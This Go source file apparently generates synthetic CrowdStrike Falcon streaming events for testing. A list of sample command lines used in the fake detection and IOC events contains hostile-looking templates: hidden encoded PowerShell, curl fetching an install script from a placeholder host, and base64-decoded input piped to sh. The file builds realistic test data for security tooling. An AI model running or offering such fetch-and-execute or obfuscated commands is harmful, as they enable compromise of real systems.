package falcon

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// eventKinds are the event types of the seeds, weighted by how often a
// busy tenant sees them.
var eventKinds = []string{
	"EPPDetectionSummaryEvent", "EPPDetectionSummaryEvent", "DetectionSummaryEvent",
	"IncidentSummaryEvent", "AuthActivityAuditEvent", "UserActivityAuditEvent", "UserActivityAuditEvent",
	"RemoteResponseSessionStartEvent", "RemoteResponseSessionEndEvent", "CustomerIOCEvent", "Event_ExternalAPIEvent",
}

var serviceNames = []string{"detections", "Crowdstrike Streaming API", "remote_response", "hosts", "prevention_policies"}

var commandLines = []string{
	`C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc %s`,
	`/usr/bin/curl -fsSL https://%s.example.net/install.sh`,
	`C:\\Windows\\system32\\cmd.exe /c whoami /all > C:\\Users\\Public\\%s.txt`,
	`/bin/bash -c "echo %s | base64 -d | sh"`,
	`C:\\ProgramData\\%s\\svchost.exe -k netsvcs`,
}

// Event returns the event at offset of partition as Falcon would stream
// it (without the newline): deterministic for (seed, partition, offset),
// with random ids so that it compresses like real data, and with field
// types that vary between events as Falcon's do (numbers or strings).
func Event(seed uint64, partition int, offset int64, created time.Time) []byte {
	r := rand.New(rand.NewPCG(seed^uint64(partition)<<48, uint64(offset)))
	kind := eventKinds[r.IntN(len(eventKinds))]
	return eventOf(r, kind, offset, created, "")
}

func hexStr(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.IntN(16)]
	}
	return string(b)
}

// num renders n as a JSON number or, for some events, as a string.
func num(r *rand.Rand, n int64) string {
	if r.IntN(4) == 0 {
		return strconv.Quote(strconv.FormatInt(n, 10))
	}
	return strconv.FormatInt(n, 10)
}

func eventOf(r *rand.Rand, kind string, offset int64, created time.Time, operation string) []byte {
	ms := created.UnixMilli()
	cid := "3f1c9a7e0b2d4c5f8a6e1d2c3b4a5f6e"
	meta := fmt.Sprintf(`{"metadata":{"customerIDString":%q,"offset":%d,"eventType":%q,"eventCreationTime":%s,"version":"1.0"},`,
		cid, offset, kind, num(r, ms))
	var ev string
	switch kind {
	case "AuthActivityAuditEvent":
		if operation == "" {
			operation = []string{"userAuthenticate", "twoFactorAuthenticate", "requestResetPassword"}[r.IntN(3)]
		}
		ev = fmt.Sprintf(`"event":{"UserId":"analyst%d@example.com","UserIp":"10.%d.%d.%d","OperationName":%q,"ServiceName":"Crowdstrike Streaming API","Success":true,"UTCTimestamp":%s,"AuditKeyValues":[{"Key":"APIClientID","ValueString":%q},{"Key":"partition","ValueString":"0"}]}}`,
			r.IntN(50), r.IntN(256), r.IntN(256), r.IntN(256), operation, num(r, ms/1000), hexStr(r, 32))
	case "UserActivityAuditEvent":
		ev = fmt.Sprintf(`"event":{"UserId":"admin%d@example.com","UserIp":"192.0.2.%d","OperationName":"update_detection_status","ServiceName":%q,"Success":%t,"UTCTimestamp":%s,"AuditKeyValues":[{"Key":"detection_id","ValueString":"ldt:%s:%d"},{"Key":"new_state","ValueString":"in_progress"}]}}`,
			r.IntN(20), r.IntN(256), serviceNames[r.IntN(len(serviceNames))], r.IntN(10) != 0, num(r, ms/1000), hexStr(r, 32), r.Int64N(1e12))
	case "IncidentSummaryEvent":
		ev = fmt.Sprintf(`"event":{"IncidentId":"inc:%s:%s","FalconHostLink":"https://falcon.crowdstrike.com/crowdscore/incidents/details/inc:%s","State":"open","FineScore":%s,"LateralMovement":%d,"IncidentStartTime":%s,"IncidentEndTime":%s}}`,
			hexStr(r, 32), hexStr(r, 32), hexStr(r, 32), num(r, int64(r.IntN(100))), r.IntN(2), num(r, ms/1000-600), num(r, ms/1000))
	case "RemoteResponseSessionStartEvent", "RemoteResponseSessionEndEvent":
		ev = fmt.Sprintf(`"event":{"SessionId":"%s-%s","HostnameField":"host-%d","UserName":"responder%d@example.com","StartTimestamp":%s,"AgentIdString":%q}}`,
			hexStr(r, 8), hexStr(r, 12), r.IntN(5000), r.IntN(9), num(r, ms/1000), hexStr(r, 32))
	case "CustomerIOCEvent":
		ev = fmt.Sprintf(`"event":{"Indicator":"%s.bad.example","IOCType":"domain","SensorId":%q,"ComputerName":"ws-%d","ProcessId":%s,"CommandLine":%q}}`,
			hexStr(r, 10), hexStr(r, 32), r.IntN(5000), num(r, r.Int64N(1<<40)), fmt.Sprintf(commandLines[r.IntN(len(commandLines))], hexStr(r, 24)))
	case "Event_ExternalAPIEvent":
		ev = fmt.Sprintf(`"event":{"APIClientID":%q,"EventType":"CrowdStrike/API/Audit","Attributes":{"scope(s)":"streaming:read","status":%s}}}`,
			hexStr(r, 32), num(r, 200))
	default: // detection summaries
		ev = fmt.Sprintf(`"event":{"ProcessStartTime":%s,"ProcessEndTime":%s,"ProcessId":%s,"ParentProcessId":%s,"ComputerName":"ws-%d","UserName":"user%d","DetectName":"Suspicious Activity","DetectDescription":"A process attempted to run a script in an unusual way.","Severity":%s,"SeverityName":"High","FileName":"powershell.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0","CommandLine":%q,"SHA256String":%q,"MD5String":%q,"MachineDomain":"corp.example.com","FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/%s/%d","SensorId":%q,"DetectId":"ldt:%s:%d","LocalIP":"10.%d.%d.%d","MACAddress":"%s","Tactic":"Execution","Technique":"PowerShell","Objective":"Follow Through","PatternDispositionDescription":"Prevention, process killed.","PatternDispositionValue":%s,"PatternDispositionFlags":{"Indicator":false,"Detect":false,"KillProcess":true,"QuarantineFile":%t}}}`,
			num(r, ms/1000-5), num(r, ms/1000), num(r, r.Int64N(1<<40)), num(r, r.Int64N(1<<40)), r.IntN(5000), r.IntN(300), num(r, int64(1+r.IntN(5))),
			fmt.Sprintf(commandLines[r.IntN(len(commandLines))], hexStr(r, 40)), hexStr(r, 64), hexStr(r, 32), hexStr(r, 32), r.Int64N(1e12), hexStr(r, 32), hexStr(r, 32), r.Int64N(1e12),
			r.IntN(256), r.IntN(256), r.IntN(256), hexStr(r, 12), num(r, 2048), r.IntN(2) == 0)
	}
	return []byte(meta + ev)
}
